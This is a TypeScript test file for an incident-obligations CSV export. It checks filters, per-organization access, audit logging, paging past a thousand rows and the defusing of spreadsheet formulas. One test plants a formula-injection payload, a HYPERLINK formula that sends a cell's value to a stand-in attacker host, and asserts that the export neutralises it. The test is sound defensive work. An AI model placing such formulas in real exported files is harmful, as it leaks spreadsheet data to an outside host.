/**
 * Obligations as CSV (exportObligations): the list's filters, every matching row read in
 * pages, only what the caller may read, cells a spreadsheet would run defused, and every
 * export audited as a sensitive read.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { sql } from 'kysely';
import { auditRows } from '../../../test/audit-rows.ts';
import { incidentFixtures } from '../../../test/incident-fixtures.ts';
import { createTestApp, type Session, type TestApp } from '../../../test/test-app.ts';
import { recomputeBatch } from './obligation-jobs.ts';

/** RFC 4180 as the export writes it: quoted cells, doubled quotes, CRLF between records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      record.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      i++;
    } else cell += c;
  }
  assert.equal(record.length + cell.length, 0, 'the file ends with a complete record');
  return records;
}

const HEADER = [
  'incident_reference', 'organization', 'rule_code', 'jurisdiction', 'instrument', 'clause', 'topic', 'governs', 'state',
  'trigger_fact', 'trigger_at', 'due_at', 'met_at', 'late_by_seconds', 'reason',
];

describe('obligations export', () => {
  let t: TestApp;
  let coordinator: Session;
  let admin: Session;
  const now = new Date('2025-03-05T12:00:00Z');
  const clock = () => now;
  let incident: { id: string; reference: string };

  const db = () => t.testDb.database.db;
  const exportCsv = async (query: string, as: Session) => {
    const response = await t.request({ method: 'GET', url: `/api/v1/obligations/export.csv${query ? `?${query}` : ''}`, as });
    assert.equal(response.statusCode, 200, response.body);
    const [header, ...rows] = parseCsv(response.body);
    assert.deepEqual(header, HEADER);
    return { response, rows: rows.map((r) => Object.fromEntries(HEADER.map((h, i) => [h, r[i]]))) };
  };

  before(async () => {
    t = await createTestApp({ clock });
    const f = await incidentFixtures(t);
    coordinator = await t.login('coordinator');
    admin = await t.login('admin');
    await sql`update organizations set regulated_as = '{intermediary,body_corporate}', operates_in = '{IN}' where id = ${t.world.orgA.id}`.execute(db());
    const category = await db().selectFrom('incident_categories').select('id').where('code', '=', 'malicious-code').executeTakeFirstOrThrow();
    incident = await f.createIncident({ title: 'Spyware through a missed call (2025)', categoryId: category.id });
    await f.addParticipant(incident.id, t.world.orgA.id);
    const facts = await t.request({
      method: 'PUT', url: `/api/v1/incidents/${incident.id}/obligation-facts/${t.world.orgA.id}`, as: coordinator,
      payload: { facts: [{ fact: 'noticed_at', at: '2025-03-03T04:30:00Z', timeZone: 'Asia/Kolkata', source: 'Platform statement' }] },
    });
    assert.equal(facts.statusCode, 200, facts.body);
    await recomputeBatch({ db: db(), jobs: t.built.jobs, clock }, [incident.id]);
  });
  after(() => t?.close());

  it('exports every obligation of an incident in due-time order, with its rule, state and times in UTC', async () => {
    const { response, rows } = await exportCsv(`incidentId=${incident.id}`, coordinator);
    assert.match(String(response.headers['content-type']), /^text\/csv; charset=utf-8/);
    assert.match(String(response.headers['content-disposition']), /^attachment; filename="obligations-2025-03-05\.csv"$/);
    const listed = (await t.request({ method: 'GET', url: `/api/v1/obligations?incidentId=${incident.id}`, as: coordinator })).json().items;
    assert.ok(listed.length > 1);
    assert.deepEqual(rows.map((r) => r.rule_code), listed.map((o: { rule: { code: string } }) => o.rule.code), 'the rows of the list, in its order');

    const sixHours = rows.find((r) => r.rule_code === 'in-certin-6h');
    assert.deepEqual(sixHours, {
      incident_reference: incident.reference, organization: 'Messaging Platform A', rule_code: 'in-certin-6h', jurisdiction: 'IN',
      instrument: 'CERT-In Directions No. 20(3)/2022-CERT-In of 28 April 2022', clause: 'dir. (ii), Annexure I', topic: 'report_to_certin',
      governs: 'true', state: 'missed', trigger_fact: 'noticed_at', trigger_at: '2025-03-03T04:30:00.000Z', due_at: '2025-03-03T10:30:00.000Z',
      met_at: '', late_by_seconds: '', reason: sixHours?.reason,
    });
    const old = rows.find((r) => r.rule_code === 'in-certin-r12-2013');
    assert.equal(old?.state, 'not_applicable');
    assert.match(old?.reason ?? '', /\S/, 'a result that does not apply says why');
  });

  it('applies the list\'s filters', async () => {
    const { rows } = await exportCsv(`incidentId=${incident.id}&state=missed&governingOnly=true`, coordinator);
    assert.deepEqual(rows.map((r) => [r.rule_code, r.state, r.governs]), [['in-certin-6h', 'missed', 'true']]);
    const window = await exportCsv(`incidentId=${incident.id}&dueFrom=2025-03-03T10:00:00Z&dueTo=2025-03-03T11:00:00Z`, coordinator);
    assert.deepEqual(window.rows.map((r) => r.due_at), ['2025-03-03T10:30:00.000Z']);
    const none = await exportCsv(`incidentId=${incident.id}&ruleCode=eu-gdpr-33`, coordinator);
    assert.deepEqual(none.rows, []);
  });

  it('defuses a cell a spreadsheet would read as a formula', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
    await sql`update organizations set name = ${formula} where id = ${t.world.orgA.id}`.execute(db());
    try {
      const { response, rows } = await exportCsv(`incidentId=${incident.id}&ruleCode=in-certin-6h`, coordinator);
      assert.equal(rows[0].organization, `'${formula}`);
      assert.ok(response.body.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"`));
      for (const lead of ['+', '-', '@']) {
        await sql`update organizations set name = ${`${lead}1+1`} where id = ${t.world.orgA.id}`.execute(db());
        assert.equal((await exportCsv(`incidentId=${incident.id}&ruleCode=in-certin-6h`, coordinator)).rows[0].organization, `'${lead}1+1`);
      }
    } finally {
      await sql`update organizations set name = 'Messaging Platform A' where id = ${t.world.orgA.id}`.execute(db());
    }
  });

  it('gives an organization its own obligations only, another organization none, and nobody signed out anything', async () => {
    const own = await exportCsv('', await t.login('org_member'));
    assert.ok(own.rows.length > 0);
    assert.ok(own.rows.every((r) => r.organization === 'Messaging Platform A'));
    const foreign = await exportCsv(`incidentId=${incident.id}`, await t.login('org_member_b'));
    assert.deepEqual(foreign.rows, []);
    const auditor = await exportCsv(`incidentId=${incident.id}`, await t.login('auditor'));
    assert.deepEqual(auditor.rows, [], 'staff outside the incident read nothing of it');
    const anonymous = await t.request({ method: 'GET', url: '/api/v1/obligations/export.csv' });
    assert.equal(anonymous.statusCode, 401);
    const malformed = await t.request({ method: 'GET', url: '/api/v1/obligations/export.csv?limit=5', as: coordinator });
    assert.equal(malformed.statusCode, 400, 'an export has no pages to ask for');
  });

  it('audits every export with its filters, its row count and the incidents it covers', async () => {
    const before = (await auditRows(db(), { action: 'obligations.exported', targetId: incident.id })).length;
    const { rows } = await exportCsv(`incidentId=${incident.id}&state=missed`, admin);
    const audited = await auditRows(db(), { action: 'obligations.exported', targetId: incident.id });
    assert.equal(audited.length, before + 1);
    const last = audited.at(-1);
    assert.equal(last?.actor_user_id, t.world.users.admin.id);
    assert.equal(last?.target_type, 'incident');
    assert.deepEqual(last?.target_ids, [incident.id]);
    const after = last?.after as { rows: number; filters: unknown };
    assert.equal(after.rows, rows.length);
    assert.deepEqual(after.filters, { incidentId: incident.id, state: 'missed' });
  });

  it('reads past a thousand rows in pages, each row once', async () => {
    const bulk = await (await incidentFixtures(t)).createIncident({ title: 'Many organizations, many duties' });
    const rules = await db().selectFrom('obligation_rules').select(['id', 'version']).execute();
    const orgCount = Math.ceil(1_050 / rules.length);
    const orgs = await db().insertInto('organizations')
      .values(Array.from({ length: orgCount }, (_, i) => ({ name: `Bulk organization ${String(i).padStart(3, '0')}`, kind: 'vendor' as const, sectors: [] })))
      .returning('id').execute();
    const values = orgs.flatMap((o, i) => rules.map((r, j) => ({
      incident_id: bulk.id, organization_id: o.id, rule_id: r.id, rule_version: r.version, topic: 'bulk', state: 'pending' as const,
      // A few share a due time, some have none: the page boundary must still fall between rows.
      due_at: (i * rules.length + j) % 7 === 0 ? null : new Date(Date.UTC(2025, 3, 1, (i * rules.length + j) % 5)),
    })));
    await db().insertInto('obligations').values(values).execute();
    assert.ok(values.length > 1_000);

    const { rows } = await exportCsv(`incidentId=${bulk.id}`, coordinator);
    assert.equal(rows.length, values.length);
    const keys = new Set(rows.map((r) => `${r.organization}|${r.rule_code}`));
    assert.equal(keys.size, values.length, 'no row twice, none left out');
    const dues = rows.map((r) => r.due_at || '9999');
    assert.deepEqual(dues, [...dues].sort(), 'by due time, those without one last');
  });
});
